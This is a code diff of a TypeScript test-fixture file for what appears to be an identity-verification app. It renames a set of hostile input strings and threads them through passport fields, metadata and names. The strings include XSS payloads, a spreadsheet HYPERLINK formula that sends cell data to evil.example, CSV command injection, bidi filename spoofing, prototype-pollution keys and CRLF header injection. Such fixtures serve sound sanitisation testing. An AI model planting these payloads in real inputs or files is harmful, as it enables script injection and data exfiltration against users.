@@ -13,7 +13,7 @@ const hostileFile = (trick: Trick) => new SpecimenFile({ kind: 'hostile', trick 
 const latin = { latinFirst: 'HOSTILE', latinLast: 'SPECIMEN' };
 
 /** Hostile strings in names, numbers, aliases, devices, reasons. */
-const nasty = {
+export const hostileText = {
   script: '<script>alert(document.domain)</script>',
   formula: '=HYPERLINK("http://evil.example/?"&A1,"open")',
   bidi: 'invoice\u202Egpj.exe\u202C',
@@ -39,7 +39,11 @@ export function hostileSituations(todayMs: number): Session[] {
     ...approved('LIVENESS'),
   ];
   const files = (tag: string, steps: readonly StepOptions[]) => individual({ seed: tag, todayMs, tags: [tag], steps });
-  const who = person('hostile everywhere', todayMs, { firstname: nasty.script, lastname: nasty.formula, ...latin });
+  const who = person('hostile everywhere', todayMs, {
+    firstname: hostileText.script,
+    lastname: hostileText.formula,
+    ...latin,
+  });
   const tricked = person('hostile-files', todayMs);
   const tricker = drawFrom('hostile-files');
   const elsewhere = person('hostile-addresses', todayMs);
@@ -51,7 +55,7 @@ export function hostileSituations(todayMs: number): Session[] {
       todayMs,
       who,
       tags: ['hostile-strings'],
-      alias: nasty.script,
+      alias: hostileText.script,
       steps: [
         {
           type: 'ID_DOCUMENT',
@@ -59,37 +63,37 @@ export function hostileSituations(todayMs: number): Session[] {
           parts: identityParts(who, drawFrom('hostile everywhere'), todayMs, {
             type: 'PASSPORT',
             further: {
-              birth_place: nasty.bidi,
-              nationality: nasty.zeroWidth,
-              eye_colour: nasty.surrogate,
-              authority: nasty.control,
-              remarks: nasty.long,
-              [nasty.script]: 'a key that bites',
+              birth_place: hostileText.bidi,
+              nationality: hostileText.zeroWidth,
+              eye_colour: hostileText.surrogate,
+              authority: hostileText.control,
+              remarks: hostileText.long,
+              [hostileText.script]: 'a key that bites',
               ['__proto__']: 'polluted',
               constructor: 'polluted',
             },
           }),
           reason: {
             code: '"><img src=x onerror=alert(1)>',
-            message: { original: nasty.script, translated: nasty.formula },
+            message: { original: hostileText.script, translated: hostileText.formula },
           },
           metadata: {
             ip: '203.0.113.9',
-            user_agent: nasty.script,
-            platform: nasty.bidi,
-            browser_name: nasty.control,
-            browser_version: nasty.formula,
-            device: nasty.long,
-            customer_language: nasty.zeroWidth,
+            user_agent: hostileText.script,
+            platform: hostileText.bidi,
+            browser_name: hostileText.control,
+            browser_version: hostileText.formula,
+            device: hostileText.long,
+            customer_language: hostileText.zeroWidth,
           },
         },
         ...approved('LIVENESS'),
       ],
     }),
     named('formula', { firstname: '@SUM(1+1)', lastname: '+cmd|calc' }, { alias: '=1+1' }),
-    named('bidi', { firstname: '\u202Eesrever\u202C', lastname: 'O\u2067lder\u2069' }, { alias: nasty.bidi }),
-    named('zero-width', { firstname: nasty.zeroWidth, lastname: 'Si\u200Blva' }),
-    named('long', { firstname: nasty.long.trim(), lastname: 'x'.repeat(300) }),
+    named('bidi', { firstname: '\u202Eesrever\u202C', lastname: 'O\u2067lder\u2069' }, { alias: hostileText.bidi }),
+    named('zero-width', { firstname: hostileText.zeroWidth, lastname: 'Si\u200Blva' }),
+    named('long', { firstname: hostileText.long.trim(), lastname: 'x'.repeat(300) }),
     named('control', { firstname: 'Tab\tand', lastname: 'Line\nBreak' }, { alias: 'alias\r\nSet-Cookie: a=b' }),
     files(
       'hostile-files',
